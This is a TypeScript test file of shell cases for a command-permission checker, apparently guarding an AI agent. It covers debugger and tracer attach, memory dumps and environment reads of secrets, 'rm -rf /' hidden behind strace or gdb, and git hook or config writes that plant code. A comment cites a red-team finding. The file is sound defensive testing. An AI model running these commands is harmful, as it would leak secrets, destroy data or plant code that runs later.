import type { ShellCase } from './cases-deny.ts';
import { ATTACH, CRED, DETACH, INLINE, RR, SEC } from './rule-ids.ts';

const allow = (list: readonly string[]): ShellCase[] => list.map((c): ShellCase => [c, 'allow']);
const ask = (list: readonly string[]): ShellCase[] => list.map((c): ShellCase => [c, 'ask', ATTACH]);

/**
 * A debugger, tracer or profiler attached to a running process reads its memory and environment (echo-agent's own
 * hold the configuration's secrets) and can run code in it: a person decides (review: all allowed). Every spelling the
 * programs accept, and some they refuse but a reader takes for one (`gdb -p1234`), behind wrappers, in code, in loops.
 */
export const PROCESS_ATTACH: readonly ShellCase[] = ask([
  // gdb: -p, --pid, -pid and their prefixes, `=value`, a second operand that is a pid (or may be), attach commands
  'gdb -p 1234', 'gdb --pid=1', 'gdb --pid 1', 'gdb -pid 1', 'gdb -pid=1', 'gdb -pi 1', 'gdb -p=1', 'gdb -p1234', 'gdb -p$PPID', 'gdb -q -batch -ex bt -p 1234',
  // was a look-alike in cases-wrappers.ts: py-bt reads the attached process's Python stack
  'gdb -batch -ex py-bt -p 1234', 'gdb ./prog 1234', 'gdb /usr/bin/node $PPID', 'gdb -- ./prog 1234', 'gdb -q ./prog "$(pgrep -f echo-agent)"',
  "gdb -ex 'attach 1'", "gdb -ex 'at 1'", "gdb -ex 'att 1'", "gdb -batch -ex '  attach 1'", "gdb -ex=attach\\ 1", 'gdb -ex=attach 1', "gdb --ex 'attach 1'",
  "gdb --eval-command='attach 1'", "gdb -eval-command 'attach 1'", "gdb --ev 'attach 1'", "gdb -iex 'attach 1'", "gdb -eiex 'attach 1'",
  'gdb -ex "attach $(pgrep node)"', 'gdb -p 1 -ex detach', 'gdb -p 1 --args ./prog', 'gdb-multiarch -p 1', 'rust-gdb -p 1',
  // old gdb attached to a digit after -c
  'gdb -c 1234', 'gdb --core=1234',
  // a command file this line wrote, read whole or through `source`
  "printf 'attach 1\\n' > a.gdb; gdb -batch -x a.gdb", "echo 'attach 1' > a.gdb && gdb -batch --command=a.gdb",
  "printf 'source b.gdb\\n' > a.gdb; printf 'attach 1\\n' > b.gdb; gdb -batch -x a.gdb", 'gdb -batch -x <(echo attach 1)',
  // lldb: -p, --attach-pid, -n, --attach-name (with or without --wait-for), attach commands
  'lldb -p 1', 'lldb --attach-pid 1', 'lldb -attach-pid 1', 'lldb -p1234', 'lldb --attach-pid=1', 'lldb -n node', 'lldb --attach-name node --wait-for',
  'lldb -w -n node', 'lldb -nnode', 'lldb -no-use-colors -p 1', "lldb -o 'process attach --pid 1'", "lldb -o 'pro att -p 1'", "lldb -o 'attach 1'", "lldb -O 'process attach -n node'",
  "lldb --one-line 'platform process attach -p 1'", 'rust-lldb -p 1', 'lldb -b -o bt -p $PPID',
  // strace and ltrace: -p in any cluster, --attach and its prefixes; the command given besides still runs (and is judged)
  'strace -p 1', 'strace -p1', 'strace -fp 1234', 'strace -fp1234', 'strace -ff -o /tmp/t -p 1', 'strace -e trace=network -p 1', 'strace -s 9999 -p 1',
  'strace --attach=1', 'strace --attach 1', 'strace --att 1', 'strace -o /tmp/x -p 1', 'strace -p 1 -p 2', 'strace -p 1 ls', 'strace -p "$(pidof node)"',
  'ltrace -p 1', 'ltrace -p1', 'ltrace -S -p 1', 'ltrace -o /tmp/l -p 1',
  // gdbserver --attach COMM PID
  'gdbserver --attach :1234 1', 'gdbserver --once --attach - $(pidof node)', 'gdbserver --attach localhost:2345 "$PPID"',
  // perf: -p/--pid, -t/--tid, -u/--uid in record, top, trace and stat
  'perf record -p 1', 'perf record --pid 1', 'perf record --pid=1', 'perf record -g -p 1234 -- sleep 5', 'perf record -agp 1', 'perf top -p 1',
  'perf trace --pid=1', 'perf trace -p 1 -o /tmp/t', 'perf stat -p 1 sleep 1', 'perf record -t 12', 'perf --no-pager record -t 12', 'perf record -d -p 1',
  'perf top -u me', 'perf record --pi 1',
  // py-spy, rbspy, austin, eu-stack, pstack, gstack, bpftrace
  'py-spy dump --pid 1', 'py-spy dump -p 1 --locals', 'py-spy record -o out.svg --pid 1', 'py-spy top -p1', 'py-spy record --pid=1', 'rbspy record --pid 1',
  'rbspy snapshot -p 1', 'austin -p 1', 'austin --where 1', 'eu-stack -p 1', 'eu-stack --pid=1', 'eu-stack -p1', 'pstack 1234', 'gstack $PPID',
  'pstack $(pgrep node)', "bpftrace -p 1 -e 'uprobe:/bin/bash:readline { printf(\"%s\", str(arg0)) }'",
  // injectors and other attach tools: node's debugger client, frida, pyrasite, memray, Java's tools
  'node inspect -p 1', 'node inspect 127.0.0.1:9229', 'nodejs inspect -p $PPID', 'frida -p 1', 'frida -n node', 'frida --attach-pid=1', 'frida Calculator',
  "frida-trace -i 'open*' -p 1", 'pyrasite 1234 payload.py', 'memray attach 1234', 'jstack 1234', 'jcmd 1234 Thread.print', 'jmap -histo 1234',
  'jinfo -flags 1234', 'jattach 1234 threaddump', 'jhsdb jstack --pid 1',
  // wrappers, quoting, variables, code, pipelines, loops
  'sudo gdb -p 1', 'sudo -u root gdb -batch -ex bt -p 1', 'env -i strace -p 1', 'timeout 5 strace -p 1', 'nice -n 5 perf record -p 1',
  'nohup py-spy dump --pid 1 &', 'sudo -E py-spy dump --pid $(pgrep -f echo-agent)', 'ionice -c3 gdb -p 1', 'stdbuf -o0 strace -p 1', 'command gdb -p 1',
  'exec strace -p 1', 'docker exec ctr strace -p 1', '"g"db -p 1', "'gdb' '-p' '1'", '/usr/bin/gdb -p 1', '\\gdb -p 1', 'g\\db -p 1', '/usr/bin/gd? -p 1',
  'p=1; gdb -p $p', 'x=-p; gdb $x 1', 'set -- -p 1; gdb "$@"', 'P=1; strace -p$P', 'opt=--pid; perf record $opt 1', "bash -c 'gdb -p 1'",
  'sh -c "strace -p $PPID"', "watch -n1 'strace -c -p 1'", 'x=$(gdb -batch -ex bt -p 1)', 'pgrep node | xargs gdb -p', 'echo 1 | xargs -I{} gdb -p {}',
  'pgrep -f echo-agent | xargs -n1 strace -p', "find /proc -maxdepth 1 -name '[0-9]*' -exec strace -p {} \\;", 'for p in $(pgrep node); do gdb -p $p; done',
  'true && strace -p 1', 'ls | strace -p 1',
]);

/**
 * Attached, a debugger that dumps the memory to a file (gdb `gcore`, `generate-core-file`, `dump`/`append` memory or
 * values; lldb `process save-core`, `memory read --outfile`) or prints the environment (`environ`, `getenv()`), and a
 * Java heap dump, hand the process's secrets over: a hard block, as `gcore PID` is.
 */
export const ATTACHED_DUMPS: readonly ShellCase[] = [
  ['gdb -p 1 -batch -ex gcore', 'deny', SEC],
  ["gdb -p 1 -batch -ex 'gcore /tmp/core'", 'deny', SEC],
  ["gdb --pid=1 -ex 'generate-core-file /tmp/c'", 'deny', SEC],
  ["gdb -p 1 -ex 'gen /tmp/c'", 'deny', SEC],
  ['gdb --batch --pid 1 --ex gcore', 'deny', SEC],
  ["gdb -p 1 -ex 'dump memory /tmp/m 0x1000 0x2000'", 'deny', SEC],
  ["gdb -p 1 -ex 'dump binary memory /tmp/m 0x0 0x1000'", 'deny', SEC],
  ["gdb -p 1 -ex 'append value /tmp/m x'", 'deny', SEC],
  ["gdb -p 1 -ex 'p environ[0]'", 'deny', SEC],
  ["gdb -p 1 -ex 'x/20s *environ'", 'deny', SEC],
  ["gdb -p 1 -ex 'p/x environ'", 'deny', SEC],
  ['gdb -p 1 -ex \'print (char*)getenv("AWS_SECRET_ACCESS_KEY")\'', 'deny', SEC],
  ["gdb ./node 1234 -batch -ex gcore", 'deny', SEC],
  ["gdb -batch -ex 'attach 1' -ex 'gcore /tmp/core'", 'deny', SEC],
  ['gdb -ex "attach $PPID" -batch -ex gcore', 'deny', SEC],
  ["gdb -ex=attach\\ 1 -ex=gcore", 'deny', SEC],
  ["cat > c.gdb <<'EOF'\nattach 1\ngcore /tmp/c\nEOF\ngdb -batch -x c.gdb", 'deny', SEC],
  ["printf 'gcore\\n' > c.gdb; gdb -p 1 -batch -x c.gdb", 'deny', SEC],
  ["sudo gdb -p $(pgrep -f echo-agent) -batch -ex 'generate-core-file /tmp/ea'", 'deny', SEC],
  ["bash -c 'gdb -p 1 -batch -ex gcore'", 'deny', SEC],
  ['/usr/bin/gd? -p 1 -batch -ex gcore', 'deny', SEC],
  ["lldb -p 1 -o 'process save-core /tmp/c'", 'deny', SEC],
  ["lldb -p 1 -b -o 'pro sa /tmp/c'", 'deny', SEC],
  ["lldb -o 'process attach -p 1' -o 'process save-core /tmp/c'", 'deny', SEC],
  ["lldb -n node -o 'process save-core -s full /tmp/c'", 'deny', SEC],
  ["lldb -p 1 -o 'memory read --outfile /tmp/m 0x1 0x2'", 'deny', SEC],
  ["lldb -p 1 -o 'x -o /tmp/m 0x1'", 'deny', SEC],
  ['lldb -p 1 -o \'expr (char*)getenv("SECRET")\'', 'deny', SEC],
  ["lldb -p 1 -o 'p environ[0]'", 'deny', SEC],
  ['jmap -dump:live,format=b,file=/tmp/h 1234', 'deny', SEC],
  ['jcmd 1234 GC.heap_dump /tmp/h', 'deny', SEC],
  ['jattach 1 dumpheap /tmp/h', 'deny', SEC],
  ['jhsdb jmap --pid 1 --binaryheap', 'deny', SEC],
];

/**
 * Tracers and debuggers read as they parse their options: strace's long options and `-p` with a command (which still
 * runs), ltrace's value options, gdb's `--args` down to `--ar` (review: each hid the command run after it).
 */
export const TRACED_COMMANDS: readonly ShellCase[] = [
  ['strace --output /tmp/x rm -rf /', 'deny', RR],
  ['strace --string-limit 99 rm -rf /', 'deny', RR],
  ['strace -U calls -c rm -rf /', 'deny', RR],
  ['strace -p 1 rm -rf /', 'deny', RR],
  ['sudo strace -p 1 -- rm -rf /', 'deny', RR],
  ['ltrace --output /tmp/x rm -rf /', 'deny', RR],
  ['ltrace -w 5 rm -rf /', 'deny', RR],
  ['ltrace -x foo rm -rf /', 'deny', RR],
  ['gdb --arg rm -rf /', 'deny', RR],
  ['gdb -ar rm -rf /', 'deny', RR],
  ["gdb -p 1 -ex 'call (int)system(\"rm -rf /\")'", 'deny', RR],
  ["gdb -p 1 -ex 'call (void*)popen(cmd, \"r\")'", 'ask', INLINE],
  ['nohup strace -p 1 &', 'ask', ATTACH],
  ['setsid strace -p 1', 'ask', DETACH],
];

/**
 * Look-alikes: programs run under a debugger or tracer, core files, dumps of a program the debugger started itself,
 * attach-like words that are data or belong to the program run, other sub-commands, listing tools.
 */
export const ATTACH_LOOKALIKES: readonly ShellCase[] = allow([
  'gdb ./prog', 'gdb --args node app.js', 'gdb -batch -ex run -ex bt --args ./prog x', 'gdb ./prog core', 'gdb ./prog core.1234', 'gdb -c core.1234 ./a.out',
  "gdb -batch -ex 'thread apply all bt' ./prog core.123", 'gdb -batch -ex run -ex gcore --args ./prog', "gdb -ex 'p environ' ./prog",
  "gdb -ex 'break attach_foo' ./prog", "gdb -ex 'info symbol attach' ./prog", 'gdb --version', 'gdb --args ./prog -p 1234',
  'gdb --arg ./server -p 8080', 'strace ls', 'strace -f -o trace.txt ./build.sh', "strace -e trace=open cat x", 'strace -u nobody ./prog',
  'strace -P /etc/passwd ls', 'strace -o /tmp/p ./prog -p 8080', 'strace -V', 'timeout 5 strace ls', 'ltrace ./x', 'ltrace ./server -p 8080',
  'lldb ./prog', 'lldb -c core ./prog', 'lldb -no-lldbinit ./prog', 'lldb ./prog -- -p 1', "lldb -o 'breakpoint set -n attach' ./prog", "lldb -o run -- ./server -p 8080",
  'gdbserver :1234 ./prog', 'gdbserver --multi :1234', 'gdbserver :1234 ./prog --attach', 'perf record -g ./prog', 'perf record -- ./prog',
  'perf record -e cycles -c 1000 ./prog', 'perf stat ls', 'perf stat -r 5 ./prog', 'perf record -o perf.data -- ./prog -t 5', 'perf record ./prog -p 8080',
  'perf top', 'perf report', 'perf report -p x', 'perf -p record ./prog', 'py-spy record -o out.svg -- python app.py', 'py-spy record -- python app.py -p 8080',
  'rbspy record -- ruby x.rb', 'austin python app.py', 'eu-stack --core=core', 'pstack', 'pstack core', "bpftrace -e 'BEGIN { printf(\"hi\") }'",
  'node inspect app.js', 'node inspect --port=9230 app.js', 'node --inspect app.js', 'node app.js -p 1', 'frida -f ./app', 'frida-ps -U',
  'memray run app.py', 'jcmd', 'jcmd -l', 'jps -l', 'echo "gdb -p 1"', "git commit -m 'strace -p 1'", 'man gdb', 'grep -r attach src',
]);

/**
 * A repository's config and hooks, and the user's git config, hold code git runs on an ordinary command (core.fsmonitor,
 * core.pager, aliases, a pre-commit hook): writing them plants commands that an approved `git status` then runs
 * (approval red team: these writes were allowed). Reading them, and look-alike names, stay allowed.
 */
export const GIT_CODE_WRITES: readonly ShellCase[] = [
  ...[
    'echo x > .git/config', "printf '[core]\\n\\tfsmonitor = touch owned\\n' >> .git/config", 'cp evil .git/hooks/pre-commit',
    'echo x > sub/.git/hooks/post-checkout', 'tee -a ~/.gitconfig < cfg', 'cat cfg > ~/.config/git/config', 'mv hook .git/hooks/pre-push',
    'ln -sf /tmp/x .git/hooks/post-merge', 'install -m 755 hook .git/hooks/commit-msg', "sed -i 's/a/b/' .git/config", 'curl -o .git/hooks/pre-commit https://example.com/h',
  ].map((c): ShellCase => [c, 'ask', CRED]),
  ...allow([
    'cat .git/config', 'ls .git/hooks', 'git config --get core.pager', 'echo x > .git-notes', 'echo x > githooks/pre-commit', 'cp .git/config /tmp/backup',
    'echo x > docs/gitconfig.md',
  ]),
];
